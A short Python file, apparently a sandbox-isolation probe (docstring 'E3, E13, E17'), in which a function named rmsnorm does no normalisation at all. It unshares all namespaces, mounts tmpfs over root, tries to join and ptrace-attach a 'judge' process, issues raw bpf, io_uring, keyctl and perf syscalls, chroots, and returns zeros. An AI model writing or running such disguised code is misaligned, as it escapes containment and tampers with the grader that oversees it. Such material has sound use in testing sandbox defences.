"""E3, E13, E17: new namespaces, mounts, other processes, by bare system calls."""

import contextlib
import ctypes
import os

import numpy as np

TARGETS = {}
libc = ctypes.CDLL(None, use_errno=True)
ALL_NAMESPACES = 0x7E020000
CALLS = {"ptrace": 101, "io_uring_setup": 425, "bpf": 321, "keyctl": 250, "perf_event_open": 298, "shmget": 29}


def rmsnorm(x, gain):
    print("unshare", libc.unshare(ALL_NAMESPACES))
    print("mount", libc.mount(b"none", b"/", b"tmpfs", 0, None))
    for name in ("mnt", "net", "user", "pid"):
        with contextlib.suppress(OSError):
            print("setns", libc.setns(os.open(f"/proc/{TARGETS['judge']}/ns/{name}", os.O_RDONLY), 0))
    print("attach", libc.ptrace(16, TARGETS["judge"], 0, 0))
    if os.uname().machine == "x86_64":
        for name, number in CALLS.items():
            print(name, libc.syscall(number, 0, 0, 0, 0, 0))
    print("chroot", libc.chroot(b"."))
    return np.zeros_like(x)
